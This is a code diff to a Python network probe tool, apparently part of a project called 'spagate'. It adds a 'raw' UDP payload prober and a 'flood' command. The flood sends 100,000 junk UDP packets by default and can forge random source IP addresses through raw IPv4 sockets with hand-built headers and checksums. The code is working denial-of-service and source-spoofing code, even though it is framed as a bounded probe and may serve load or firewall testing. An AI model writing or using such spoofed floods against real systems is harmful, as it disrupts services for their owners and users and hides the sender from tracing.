@@ -12,9 +12,14 @@ python -m spagate.probe udp HOST PORT [-t S]      send lines from stdin, print t
 from __future__ import annotations
 
 import argparse
+import ipaddress
+import os
+import random
 import socket
+import struct
 import sys
 import threading
+import time
 
 
 def _family(host: str) -> socket.AddressFamily:
@@ -56,17 +61,76 @@ def connect(host: str, port: int, timeout: float) -> socket.socket | int:
     return s
 
 
+def raw(host: str, port: int, payloads: list[bytes], wait: float) -> str:
+    """Send payloads on a connected UDP socket: an ICMP port-unreachable shows as ECONNREFUSED."""
+    s = socket.socket(_family(host), socket.SOCK_DGRAM)
+    s.connect((host, port))
+    s.settimeout(wait)
+    try:
+        for p in payloads:
+            s.send(p)
+            time.sleep(0.01)
+        s.recv(65535)
+        return "answered"
+    except ConnectionRefusedError:
+        return "icmp"
+    except TimeoutError:
+        return "silent"
+
+
+def _csum(data: bytes) -> int:
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    total = (total >> 16) + (total & 0xFFFF)
+    total += total >> 16
+    return ~total & 0xFFFF
+
+
+def flood(host: str, port: int, count: int, spoof: str | None) -> None:
+    """Bounded junk flood: count packets, then stop. Spoofed sources need IPv4 raw sockets."""
+    junk = os.urandom(96)
+    if spoof is None:
+        s = socket.socket(_family(host), socket.SOCK_DGRAM)
+        for _ in range(count):
+            s.sendto(junk, (host, port))
+        return
+    net = ipaddress.ip_network(spoof)
+    base, size = int(net.network_address), net.num_addresses
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL implied
+    dst = socket.inet_aton(host)
+    rnd = random.Random(os.getpid())
+    udp_len = 8 + len(junk)
+    for _ in range(count):
+        src = struct.pack("!I", base + rnd.randrange(size))
+        sport = rnd.randrange(1024, 65535)
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, 17, 0, src, dst)
+        ip = ip[:10] + struct.pack("!H", _csum(ip)) + ip[12:]
+        s.sendto(ip + struct.pack("!HHHH", sport, port, udp_len, 0) + junk, (host, 0))
+
+
 def main(argv: list[str] | None = None) -> int:
     ap = argparse.ArgumentParser(prog="python -m spagate.probe")
-    ap.add_argument("cmd", choices=["serve", "connect", "hold", "udp"])
+    ap.add_argument("cmd", choices=["serve", "connect", "hold", "udp", "raw", "flood"])
     ap.add_argument("a")
     ap.add_argument("b")
+    ap.add_argument("payloads", nargs="*")
     ap.add_argument("-t", "--timeout", type=float, default=2.0)
+    ap.add_argument("--count", type=int, default=100_000)
+    ap.add_argument("--spoof")
     args = ap.parse_args(argv)
     if args.cmd == "serve":
         serve(args.a, int(args.b))
         return 0
     host, port = args.a, int(args.b)
+    if args.cmd == "raw":
+        print(raw(host, port, [bytes.fromhex(h) for h in args.payloads], args.timeout))
+        return 0
+    if args.cmd == "flood":
+        t = time.monotonic()
+        flood(host, port, args.count, args.spoof)
+        print(f"sent {args.count} in {time.monotonic() - t:.2f}s", flush=True)
+        return 0
     if args.cmd == "udp":
         s = socket.socket(_family(host), socket.SOCK_DGRAM)
         s.settimeout(args.timeout)
